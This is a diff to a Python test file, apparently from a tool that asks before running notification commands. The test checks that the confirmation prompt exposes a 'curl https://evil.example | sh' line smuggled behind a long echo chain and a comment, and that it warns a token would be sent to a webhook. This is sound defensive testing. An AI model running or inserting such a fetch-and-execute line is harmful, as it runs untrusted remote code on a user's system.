@@ -187,7 +187,9 @@ def test_what_a_file_names_is_not_done_before_somebody_has_said_so(program: Prog
 
 def test_the_question_shows_all_that_would_be_done(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     command = "echo done" + " && echo done" * 20 + " #\ncurl https://evil.example | sh"
-    asked = notify_question(Notify(on_finish=command, webhook="https://x.example/", webhook_token_env="A_KEY"), tmp_path)
+    asked = notify_question(
+        Notify(on_finish=command, webhook="https://x.example/", webhook_token_env="A_KEY"), tmp_path
+    )
     assert asked is not None
     assert "# ⏎ curl https://evil.example | sh" in asked.text
     assert "with the value of A_KEY" in asked.text, "it is not set yet, and would be sent once it is"
